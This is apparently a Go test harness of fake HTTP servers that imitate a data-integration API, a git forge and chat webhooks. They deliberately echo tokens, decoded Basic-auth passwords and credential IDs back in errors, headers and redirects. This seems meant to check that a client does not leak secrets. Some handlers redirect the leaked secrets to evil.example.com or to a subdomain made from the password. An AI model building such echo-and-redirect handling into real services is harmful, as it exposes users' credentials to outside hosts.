package main

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
)

// repeated is all that a request has, in every form.
func repeated(r *http.Request, body []byte) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s %s ", r.URL, r.URL.Query(), forms(string(body)))
	for _, values := range r.Header {
		for _, value := range values {
			b.WriteString(forms(value) + " ")
			if _, rest, ok := strings.Cut(value, " "); ok {
				plain, _ := base64.StdEncoding.DecodeString(rest)
				_, password, _ := strings.Cut(string(plain), ":")
				b.WriteString(forms(rest) + " " + forms(string(plain)) + " " + forms(password) + " ")
			}
		}
	}
	return b.String()
}

// endpoint is WeData, which repeats what it was sent when it does not like the task.
func (p *planted) endpoint(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	var in struct {
		TaskID    string `json:"TaskId"`
		ExtConfig []struct{ Value string }
	}
	_ = json.Unmarshal(body, &in)
	var text strings.Builder
	text.WriteString(r.Header.Get("X-TC-Token") + " " + forms(r.Header.Get("X-TC-Token")))
	if _, id, ok := strings.Cut(r.Header.Get("Authorization"), "Credential="); ok {
		id, _, _ = strings.Cut(id, "/2")
		text.WriteString(" " + id + " " + forms(id))
	}
	for _, param := range in.ExtConfig {
		text.WriteString(" " + param.Value + " " + forms(param.Value))
	}
	fail := func(code, message string) {
		_ = json.NewEncoder(w).Encode(map[string]any{"Response": map[string]any{"Error": map[string]string{"Code": code, "Message": message}, "RequestId": "r-1"}})
	}
	commit := r.Header.Get("X-TC-Action") == "CommitIntegrationTask"
	switch {
	case commit && in.TaskID == "refused":
		fail("InvalidParameter", "no: "+text.String())
	case commit && in.TaskID == "locked":
		fail("UnsupportedOperation", "the task is locked by 100028625403: "+text.String())
	case commit && in.TaskID == "unknown":
		w.WriteHeader(http.StatusBadGateway)
		_, _ = io.WriteString(w, "<html>"+text.String())
	case commit && in.TaskID == "redirected":
		w.Header().Set("Location", "http://evil.example.com/?"+url.QueryEscape(text.String()))
		w.WriteHeader(http.StatusTemporaryRedirect)
	case commit && in.TaskID == "odd":
		w.Header().Set("Content-Type", r.Header.Get("X-TC-Token"))
		_, _ = io.WriteString(w, text.String())
	default:
		r.Body = io.NopCloser(bytes.NewReader(body))
		p.sim.ServeHTTP(w, r)
	}
}

// serveGit is the forge's git server.
func (p *planted) serveGit(git *httptest.Server, w http.ResponseWriter, r *http.Request) {
	p.mu.Lock()
	kind := p.kind
	p.mu.Unlock()
	_, password, _ := r.BasicAuth()
	switch {
	case kind == "broken":
		http.Error(w, "oops: "+repeated(r, nil), http.StatusInternalServerError)
	case kind == "elsewhere":
		http.Redirect(w, r, "http://"+url.QueryEscape(password)+".example.com/"+url.PathEscape(repeated(r, nil)), http.StatusFound)
	case password != p.secrets["git token"]:
		http.Error(w, "not with "+repeated(r, nil), http.StatusUnauthorized)
	default:
		git.Config.Handler.ServeHTTP(w, r)
	}
}

// serveChat is every chat. What it is told has left the program; what it was asked
// with is for it alone.
func (p *planted) serveChat(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	p.left("what the chats are told", body)
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.deaf {
		w.WriteHeader(http.StatusBadRequest)
		quoted, _ := json.Marshal(repeated(r, nil))
		fmt.Fprintf(w, `{"errcode":93000,"errmsg":%s,"code":9499,"msg":%[1]s}`, quoted)
		return
	}
	if strings.Contains(r.URL.Path, "slack") {
		_, _ = io.WriteString(w, "ok")
		return
	}
	_, _ = io.WriteString(w, `{"errcode":0,"code":0}`)
}

// serveForge takes commit statuses and comments.
func (p *planted) serveForge(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	p.left("what the forge is told", body)
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.deaf {
		w.WriteHeader(http.StatusForbidden)
		quoted, _ := json.Marshal(repeated(r, nil))
		fmt.Fprintf(w, `{"message":%s}`, quoted)
		return
	}
	if r.Method == http.MethodGet {
		_, _ = io.WriteString(w, "[]")
		return
	}
	w.WriteHeader(http.StatusCreated)
	_, _ = io.WriteString(w, `{"id":1}`)
}
